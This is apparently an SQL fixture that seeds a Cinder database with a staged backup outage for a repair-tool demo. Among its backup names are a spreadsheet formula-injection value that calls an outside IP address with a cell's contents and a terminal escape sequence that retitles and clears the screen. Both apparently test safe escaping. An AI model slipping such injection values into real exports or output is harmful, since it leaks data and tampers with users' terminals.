-- rows: inserts the rows of an outage, for `cinder-backup-repair demo`.
--
-- Controller ctl1 lost power three hours ago, during the nightly backups; its cinder-backup is down. ctl2 works. ctl0 was retired long
-- ago. All backups are on a shared file system (driver posix). The demo has only the files of volumes of 1 GiB.
-- Times are relative to now; everything else, ids included, is the same in every run.

-- Ids that look random: multiples of an odd factor do not repeat within the width of the number.
CREATE TEMP TABLE made (n INTEGER PRIMARY KEY, id VARCHAR(36) NOT NULL);
INSERT INTO made (n, id)
WITH RECURSIVE number (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM number WHERE n < 2000)
SELECT n,
       printf('%08x-%04x-4%03x-%04x-%012x',
              n * 2654435761 % 4294967296, n * 40503 % 65536, n * 2749 % 4096, 32768 + n * 9973 % 16384,
              n * 179424673957 % 281474976710656)
  FROM number;

-- The three projects, by number.
CREATE TEMP TABLE projects (n INTEGER PRIMARY KEY, project_id VARCHAR(255), user_id VARCHAR(255));
INSERT INTO projects VALUES
    (0, '8f1b5c4e2d7a4963b0c8e6f1a2d3547c', 'c4a1b7e09d534f2e8a6b3c5d7e9f0a12'),   -- production
    (1, '2c9d7e5a1b3f48609e7d5c3b1a9f8e6d', 'e7f8a9b0c1d24e3f95a6b7c8d9e0f1a2'),   -- staging
    (2, 'd05e6f7a8b9c4d1e82f3a4b5c6d7e8f9', '19b8c7d6e5f44a3bb2c1d0e9f8a7b6c5');   -- laboratory

INSERT INTO services
    (created_at, updated_at, deleted_at, deleted, id, host, binary, topic, report_count, disabled, availability_zone, uuid)
SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', '-900 days'),
       strftime('%Y-%m-%d %H:%M:%f000', 'now', service.beat),
       CASE WHEN service.deleted = 1 THEN strftime('%Y-%m-%d %H:%M:%f000', 'now', service.beat) END,
       service.deleted, service.id, service.host, service.binary, service.binary, 4321000 + service.id, 0, 'nova', made.id
  FROM (SELECT column1 AS id, column2 AS host, column3 AS binary, column4 AS beat, column5 AS deleted
          FROM (VALUES (1, 'ctl1',       'cinder-scheduler', '-3 hours',   0),
                       (2, 'ctl2',       'cinder-scheduler', '-4 seconds', 0),
                       (3, 'store1@lvm', 'cinder-volume',    '-6 seconds', 0),
                       (4, 'ctl0',       'cinder-backup',    '-39 days',   1),
                       (5, 'ctl1',       'cinder-backup',    '-3 hours',   0),
                       (6, 'ctl2',       'cinder-backup',    '-5 seconds', 0))) AS service
  JOIN made ON made.n = 1900 + service.id;

-- --- daily operation, with nothing stuck ----------------------------------------------------------------

-- 30 volumes; two out of three are attached to a server.
CREATE TEMP TABLE daily_volumes AS
SELECT made.n, made.id, projects.project_id, projects.user_id, name.name || CASE projects.n WHEN 0 THEN '' WHEN 1 THEN '-stage' ELSE '-lab' END AS name,
       (made.n * 7 % 10 + 1) * 10 AS size, made.n % 3 <> 1 AS attached
  FROM made
  JOIN projects ON projects.n = made.n / 10 % 3
  JOIN (SELECT column1 AS n, column2 AS name
          FROM (VALUES (0, 'web'), (1, 'db'), (2, 'mail'), (3, 'erp'), (4, 'wiki'), (5, 'git'), (6, 'build'), (7, 'files'),
                       (8, 'ldap'), (9, 'proxy'))) AS name ON name.n = made.n % 10
 WHERE made.n BETWEEN 1 AND 30;

INSERT INTO volumes
    (created_at, updated_at, launched_at, deleted, id, user_id, project_id, host, size, availability_zone, status, attach_status,
     display_name, volume_type_id, bootable, multiattach, previous_status, service_uuid, shared_targets, use_quota)
SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', printf('-%.3f days', 400.125 + volume.n * 3.917)),
       strftime('%Y-%m-%d %H:%M:%f000', 'now', '-1 day', 'start of day', printf('+%.3f minutes', 65.037 + volume.n * 2.431)),
       strftime('%Y-%m-%d %H:%M:%f000', 'now', printf('-%.3f days', 400.125 + volume.n * 3.917)),
       0, volume.id, volume.user_id, volume.project_id, 'store1@lvm#lvm', volume.size, 'nova',
       CASE WHEN volume.attached THEN 'in-use' ELSE 'available' END,
       CASE WHEN volume.attached THEN 'attached' ELSE 'detached' END,
       volume.name, 'b1d0c2a3-5f47-4e19-9c68-7a2e3f4d5b60', 0, 0, 'backing-up',
       (SELECT uuid FROM services WHERE host = 'store1@lvm'), 0, 1
  FROM daily_volumes AS volume;

INSERT INTO volume_attachment
    (created_at, updated_at, deleted, id, volume_id, attached_host, instance_uuid, mountpoint, attach_time, attach_mode, attach_status)
SELECT created_at, created_at, 0, attachment.id, volume.id, 'compute' || (1 + volume.n % 4), server.id, '/dev/vdb', created_at, 'rw', 'attached'
  FROM daily_volumes AS volume
  JOIN volumes ON volumes.id = volume.id
  JOIN made AS attachment ON attachment.n = 100 + volume.n
  JOIN made AS server ON server.n = 200 + volume.n
 WHERE volume.attached;

-- 1200 deleted backups (40 nights, 30 volumes), and 60 available backups of the last two nights.
INSERT INTO backups
    (created_at, updated_at, deleted_at, deleted, id, volume_id, user_id, project_id, host, availability_zone, display_name,
     container, status, service_metadata, service, size, object_count, num_dependent_backups, data_timestamp)
WITH RECURSIVE night (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM night WHERE n < 42),
daily AS (
    SELECT night.n AS night, volume.*, made.id AS backup_id, made.n AS backup_n,
           strftime('%Y-%m-%d %H:%M:%f000', 'now', printf('-%d days', night.n), 'start of day',
                    printf('+%.3f minutes', 61.213 + volume.n * 2.431)) AS created_at,
           strftime('%Y-%m-%d %H:%M:%f000', 'now', printf('-%d days', night.n), 'start of day',
                    printf('+%.3f minutes', 65.037 + volume.n * 2.431)) AS updated_at
      FROM night
      JOIN daily_volumes AS volume
      JOIN made ON made.n = 300 + night.n * 30 + volume.n
)
SELECT created_at,
       CASE WHEN night > 2 THEN strftime('%Y-%m-%d %H:%M:%f000', updated_at, '+2 days') ELSE updated_at END,
       CASE WHEN night > 2 THEN strftime('%Y-%m-%d %H:%M:%f000', updated_at, '+2 days') END,
       night > 2, backup_id, id, user_id, project_id,
       CASE WHEN night > 39 THEN 'ctl0' WHEN backup_n % 2 = 0 THEN 'ctl1' ELSE 'ctl2' END,
       'nova', name || ' nightly ' || strftime('%Y-%m-%d', created_at),
       substr(backup_id, 1, 2) || '/' || substr(backup_id, 3, 2) || '/' || backup_id,
       CASE WHEN night > 2 THEN 'deleted' ELSE 'available' END,
       'volume_' || id || '_' || strftime('%Y%m%d%H%M%S', created_at) || '_backup_' || backup_id,
       'cinder.backup.drivers.posix.PosixBackupDriver', size, (size * 1024 + 1906) / 1907, 0, created_at
  FROM daily;

-- --- what the outage left, and older problems --------------------------------------------------------------------------

-- Volumes with their attachments. The projects are numbered as above.
CREATE TEMP TABLE story_volumes AS
SELECT column1 AS id, column2 AS project, column3 AS name, column4 AS size, column5 AS status, column6 AS previous_status,
       column7 AS attached, column8 AS changed
  FROM (VALUES
    -- being backed up by ctl1, attached to running servers
    ('6d1f0c92-84be-4c35-9a77-2f50e8b1d643', 0, 'erp-db',         1, 'backing-up',       'in-use',     1, '-220 minutes'),
    ('73c5a0e8-1f49-4b26-8d97-e4b62c0f5a81', 0, 'ledger-db',      1, 'backing-up',       'in-use',     1, '-213 minutes'),
    -- its snapshot is being backed up; the volume itself is free
    ('0b7e3a58-c1d4-4f92-8e06-95a3d7c24b1f', 1, 'wiki-data',      1, 'available',        NULL,         0, '-20 days'),
    -- being backed up by ctl2 when the database failed
    ('d49e7b16-5c03-4af8-b2e1-6f97a8d0c345', 1, 'dns-zones',      1, 'backing-up',       'available',  0, '-216 minutes'),
    -- being overwritten by a restore
    ('e52a9d07-3f6b-48c1-b7d4-10c8f6a29e35', 0, 'mail-spool',   120, 'restoring-backup', NULL,         0, '-195 minutes'),
    -- a new volume to which a backup is being restored, with the name that the API gives it
    ('47c8b1e3-90d2-4a6f-85e9-d3b07f1c6a28', 2, 'restore_backup_c93d5e70-1a2b-4f84-96d7-e80b4c5f2a19', 60, 'creating', NULL, 0, '-190 minutes'),
    -- the API accepted its backup while no scheduler was running
    ('91a4f6d8-2e5c-4b73-ac10-7f8e3d9b5042', 2, 'scratch',       10, 'backing-up',       'available',  0, '-170 minutes'),
    -- the request for its backup was lost on the message bus
    ('2f83c7b5-d694-4e0a-91cf-a65b0e47d318', 1, 'files-stage2', 500, 'backing-up',       'available',  0, '-305 minutes'),
    -- being backed up by ctl2
    ('b860d2e4-7c19-4583-bf2a-3d94e1f05c67', 0, 'ldap-data',     20, 'backing-up',       'in-use',     1, '-12 minutes'),
    -- a restart of cinder-backup set it to the previous_status that an earlier crash had left
    ('d7125b9e-4a08-4f6d-8c33-b9e60f7a1d52', 2, 'build-cache',   80, 'backing-up',       'backing-up', 0, '-4 days'),
    -- chains
    ('5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'crm-db',       150, 'in-use',           'backing-up', 1, '-1 day'),
    ('a3f4e8d6-150b-47c9-9d82-6be7c0543f1a', 0, 'shop-db',      100, 'in-use',           'backing-up', 1, '-1 day'),
    ('f8d20b37-6ea5-4c91-87fb-04a9c3e5d16f', 1, 'portal-db',     90, 'in-use',           'backing-up', 1, '-1 day'),
    -- a backup of it failed, and the clone for the backup remains
    ('1e9bc5f2-a730-4d84-b65e-8c2d7f0e3a94', 0, 'hr-db',         70, 'in-use',           'backing-up', 1, '-2 days'),
    ('c06f4d8a-e3b1-4729-95a8-fd71b2e0c653', 0, 'backup-vol-1e9bc5f2-a730-4d84-b65e-8c2d7f0e3a94', 70, 'available', NULL, 0, '-2 days'));

INSERT INTO volumes
    (created_at, updated_at, launched_at, deleted, id, user_id, project_id, host, size, availability_zone, status, attach_status,
     display_name, volume_type_id, bootable, multiattach, previous_status, service_uuid, shared_targets, use_quota)
SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', story.changed, CASE WHEN story.status = 'creating' THEN '-2 seconds' ELSE '-200 days' END),
       strftime('%Y-%m-%d %H:%M:%f000', 'now', story.changed),
       CASE WHEN story.status <> 'creating' THEN strftime('%Y-%m-%d %H:%M:%f000', 'now', story.changed, '-200 days') END,
       0, story.id, projects.user_id, projects.project_id, 'store1@lvm#lvm', story.size, 'nova', story.status,
       CASE WHEN story.attached THEN 'attached' ELSE 'detached' END,
       story.name, 'b1d0c2a3-5f47-4e19-9c68-7a2e3f4d5b60', 0, 0, story.previous_status,
       (SELECT uuid FROM services WHERE host = 'store1@lvm'), 0, story.name NOT LIKE 'backup-vol-%'
  FROM story_volumes AS story
  JOIN projects ON projects.n = story.project;

INSERT INTO volume_attachment
    (created_at, updated_at, deleted, id, volume_id, attached_host, instance_uuid, mountpoint, attach_time, attach_mode, attach_status)
SELECT volumes.created_at, volumes.created_at, 0, attachment.id, story.id, 'compute1', server.id, '/dev/vdb', volumes.created_at, 'rw',
       'attached'
  FROM story_volumes AS story
  JOIN volumes ON volumes.id = story.id
  JOIN made AS attachment ON attachment.n = 1700 + story.rowid
  JOIN made AS server ON server.n = 1800 + story.rowid
 WHERE story.attached;

INSERT INTO snapshots
    (created_at, updated_at, deleted, id, volume_id, user_id, project_id, status, progress, volume_size, display_name, volume_type_id,
     use_quota)
SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', '-230 minutes'), strftime('%Y-%m-%d %H:%M:%f000', 'now', '-200 minutes'), 0,
       '7ab5e190-f3c6-4d28-8b4f-e1d09c6a5273', '0b7e3a58-c1d4-4f92-8e06-95a3d7c24b1f', user_id, project_id, 'backing-up', '100%', 1,
       'wiki before the upgrade', 'b1d0c2a3-5f47-4e19-9c68-7a2e3f4d5b60', 1
  FROM projects
 WHERE n = 1;

-- Backups. `begun`: a driver started on it, so it has a driver, a directory and a prefix.
CREATE TEMP TABLE story_backups AS
SELECT column1 AS id, column2 AS volume_id, column3 AS project, column4 AS host, column5 AS name, column6 AS status, column7 AS size,
       column8 AS begun, column9 AS created, column10 AS changed
  FROM (VALUES
    -- in progress on ctl1 when it lost power (one is a restore, because its volume is gone)
    ('3f6c1b52-9e07-4d8a-b1c4-85d2f7e06a93', '6d1f0c92-84be-4c35-9a77-2f50e8b1d643', 0, 'ctl1', 'erp-db nightly',
     'creating', 1, 1, '-220 minutes', '-219 minutes'),
    ('5a90c7e3-d216-4f8b-9e45-b07d1f3c6a28', '73c5a0e8-1f49-4b26-8d97-e4b62c0f5a81', 0, 'ctl1', 'ledger-db nightly',
     'creating', 1, 1, '-213 minutes', '-213 minutes'),
    ('8d20f4a7-5b6e-4193-a8f2-c7e91d3b0456', '0b7e3a58-c1d4-4f92-8e06-95a3d7c24b1f', 1, 'ctl1', 'wiki before the upgrade',
     'creating', 1, 1, '-200 minutes', '-199 minutes'),
    ('b4e7d9c1-06fa-4832-97b5-2a1c8f6d3e70', 'e52a9d07-3f6b-48c1-b7d4-10c8f6a29e35', 0, 'ctl1', 'mail-spool weekly',
     'restoring', 120, 1, '-6 days', '-195 minutes'),
    ('c93d5e70-1a2b-4f84-96d7-e80b4c5f2a19', '5b07e3c9-1d84-4fa2-a6b8-90e2d7c1f35a', 2, 'ctl1', 'git full',
     'restoring', 60, 1, '-2 days', '-190 minutes'),
    -- a name that a spreadsheet would run
    ('05a8c2f6-d7e1-49b3-8c60-f49d1b7e2a35', '5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'ctl1', '=HYPERLINK("http://203.0.113.9/?"&A1)',
     'deleting', 150, 1, '-4290 minutes', '-185 minutes'),
    -- stuck for an unknown reason
    ('e16b9f30-48d5-4c7a-b2e9-07c4a5d8f162', 'f8d20b37-6ea5-4c91-87fb-04a9c3e5d16f', 1, 'ctl1', 'portal-db weekly',
     NULL, 90, 1, '-9 days', '-8 days'),
    -- never scheduled
    ('9c42e7d5-b1f8-4063-a59d-6e8f0c3b7a21', '91a4f6d8-2e5c-4b73-ac10-7f8e3d9b5042', 2, NULL, 'scratch before the test',
     'creating', 10, 0, '-170 minutes', NULL),
    -- an import that no host started
    ('7f05d3b9-e2c8-4a16-9f74-b3a6d1e0c588', '00000000-0000-0000-0000-000000000000', 1, NULL, NULL,
     'creating', NULL, 0, '-2 days', NULL),
    -- of a retired host and a missing volume, with a name that clears the screen if it is printed unescaped
    ('a2d8f614-c09e-4b57-8d31-f5e7b9a4c063', '94f1b0c7-d36e-42a8-b95f-0e7c8d2a6b14', 2, 'ctl0', char(27) || ']0;owned' || char(7) || char(27) || '[2Jmigration',
     'creating', 30, 1, '-40 days', '-40 days'),
    -- ctl2 is up: one finished but not recorded, one whose request was lost, one in progress
    ('c7e2f805-3b9d-4164-a0d8-5f1b92e6d47a', 'd49e7b16-5c03-4af8-b2e1-6f97a8d0c345', 1, 'ctl2', 'dns-zones nightly',
     'creating', 1, 1, '-216 minutes', '-216 minutes'),
    ('d8b1c5e9-3720-4f6a-8e94-1c0d7a5f2b36', '2f83c7b5-d694-4e0a-91cf-a65b0e47d318', 1, 'ctl2', 'files-stage2 nightly',
     'creating', 500, 0, '-305 minutes', '-305 minutes'),
    ('4e90a7d2-f6b3-48c5-b07e-d92f1c8e6a54', 'b860d2e4-7c19-4583-bf2a-3d94e1f05c67', 0, 'ctl2', 'ldap-data nightly',
     'creating', 20, 1, '-12 minutes', '-12 minutes'),
    -- the parent of "erp-db nightly"
    ('e83b61d4-7f0a-4c59-8b12-d6c4a9705e3f', '6d1f0c92-84be-4c35-9a77-2f50e8b1d643', 0, 'ctl1', 'erp-db weekly',
     'available', 1, 1, '-3 days', '-3 days'),
    -- an intact chain: one full backup and three increments
    ('1c7d9e05-a4b8-4f23-95d6-e0c8b2f7a341', 'a3f4e8d6-150b-47c9-9d82-6be7c0543f1a', 0, 'ctl1', 'shop-db full',
     'available', 100, 1, '-8 days', '-8 days'),
    ('2d8e0f16-b5c9-4a34-86e7-f1d9c3a8b452', 'a3f4e8d6-150b-47c9-9d82-6be7c0543f1a', 0, 'ctl1', 'shop-db increment 1',
     'available', 100, 1, '-7 days', '-7 days'),
    ('3e9f1a27-c6d0-4b45-97f8-a2e0d4b9c563', 'a3f4e8d6-150b-47c9-9d82-6be7c0543f1a', 0, 'ctl1', 'shop-db increment 2',
     'available', 100, 1, '-6 days', '-6 days'),
    ('4fa02b38-d7e1-4c56-a809-b3f1e5cad674', 'a3f4e8d6-150b-47c9-9d82-6be7c0543f1a', 0, 'ctl1', 'shop-db increment 3',
     'available', 100, 1, '-5 days', '-5 days'),
    -- a full backup that Cinder would delete although it has two increments
    ('60b13c49-e8f2-4d67-b91a-c4a2f6dbe785', '5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'ctl2', 'crm-db full',
     'available', 150, 1, '-4 days', '-4 days'),
    ('71c24d5a-f903-4e78-8a2b-d5b3a7ecf896', '5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'ctl2', 'crm-db increment 1',
     'available', 150, 1, '-3 days', '-3 days'),
    ('82d35e6b-0a14-4f89-9b3c-e6c4b8fd0a97', '5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'ctl2', 'crm-db increment 2',
     'available', 150, 1, '-2 days', '-2 days'),
    -- an increment whose parent was deleted and purged
    ('93e46f7c-1b25-4a9a-ac4d-f7d5c90e1ba8', 'f8d20b37-6ea5-4c91-87fb-04a9c3e5d16f', 1, 'ctl2', 'portal-db increment 4',
     'available', 90, 1, '-1 day', '-1 day'),
    -- failed, with its temporary volume still recorded
    ('a4f5708d-2c36-4bab-bd5e-08e6da1f2cb9', '1e9bc5f2-a730-4d84-b65e-8c2d7f0e3a94', 0, 'ctl1', 'hr-db nightly',
     'error', 70, 1, '-2 days', '-2 days'));

INSERT INTO backups
    (created_at, updated_at, deleted, id, volume_id, user_id, project_id, host, availability_zone, display_name, container, status,
     service_metadata, service, size, object_count, num_dependent_backups, data_timestamp)
SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', story.created), strftime('%Y-%m-%d %H:%M:%f000', 'now', story.changed), 0, story.id,
       story.volume_id, projects.user_id, projects.project_id, story.host, CASE WHEN story.host IS NOT NULL THEN 'nova' END, story.name,
       CASE WHEN story.begun THEN substr(story.id, 1, 2) || '/' || substr(story.id, 3, 2) || '/' || story.id END,
       story.status,
       CASE WHEN story.begun
            THEN 'volume_' || story.volume_id || '_' || strftime('%Y%m%d%H%M%S', 'now', story.created) || '_backup_' || story.id END,
       CASE WHEN story.begun THEN 'cinder.backup.drivers.posix.PosixBackupDriver' END,
       story.size,
       CASE WHEN story.status IN ('creating', 'error') THEN 0 ELSE (story.size * 1024 + 1906) / 1907 END,
       0, strftime('%Y-%m-%d %H:%M:%f000', 'now', story.created)
  FROM story_backups AS story
  JOIN projects ON projects.n = story.project;

-- Values that only some of them have.
UPDATE backups SET object_count = 64 WHERE display_name = 'erp-db weekly';
UPDATE backups SET parent_id = 'e83b61d4-7f0a-4c59-8b12-d6c4a9705e3f' WHERE display_name = 'erp-db nightly';
UPDATE backups SET snapshot_id = '7ab5e190-f3c6-4d28-8b4f-e1d09c6a5273' WHERE display_name = 'wiki before the upgrade';
UPDATE backups SET restore_volume_id = 'e52a9d07-3f6b-48c1-b7d4-10c8f6a29e35' WHERE display_name = 'mail-spool weekly';
UPDATE backups SET restore_volume_id = '47c8b1e3-90d2-4a6f-85e9-d3b07f1c6a28' WHERE display_name = 'git full';
UPDATE backups SET parent_id = '1c7d9e05-a4b8-4f23-95d6-e0c8b2f7a341', object_count = 3 WHERE display_name = 'shop-db increment 1';
UPDATE backups SET parent_id = '2d8e0f16-b5c9-4a34-86e7-f1d9c3a8b452', object_count = 2 WHERE display_name = 'shop-db increment 2';
UPDATE backups SET parent_id = '3e9f1a27-c6d0-4b45-97f8-a2e0d4b9c563', object_count = 4 WHERE display_name = 'shop-db increment 3';
UPDATE backups SET num_dependent_backups = 1 WHERE display_name IN ('shop-db full', 'shop-db increment 1', 'shop-db increment 2');
UPDATE backups SET parent_id = '60b13c49-e8f2-4d67-b91a-c4a2f6dbe785', object_count = 3 WHERE display_name LIKE 'crm-db increment %';
UPDATE backups SET parent_id = (SELECT id FROM made WHERE n = 1600), object_count = 2 WHERE display_name = 'portal-db increment 4';
UPDATE backups
   SET temp_volume_id = 'c06f4d8a-e3b1-4729-95a8-fd71b2e0c653',
       fail_reason = 'No space left on device'
 WHERE display_name = 'hr-db nightly';

-- Quotas count live backups in every status; the laboratory's count is one too high.
INSERT INTO quota_usages (created_at, updated_at, deleted, project_id, resource, in_use, reserved, race_preventer)
SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', '-900 days'), strftime('%Y-%m-%d %H:%M:%f000', 'now', '-170 minutes'), 0,
       projects.project_id, usage.resource,
       CASE usage.resource
            WHEN 'backups' THEN (SELECT count(*) FROM backups WHERE project_id = projects.project_id AND deleted = 0) + (projects.n = 2)
            ELSE (SELECT sum(size) FROM backups WHERE project_id = projects.project_id AND deleted = 0)
       END, 0, 1
  FROM projects
  JOIN (SELECT 'backups' AS resource UNION ALL SELECT 'backup_gigabytes') AS usage;

DROP TABLE made;
DROP TABLE projects;
DROP TABLE daily_volumes;
DROP TABLE story_volumes;
DROP TABLE story_backups;
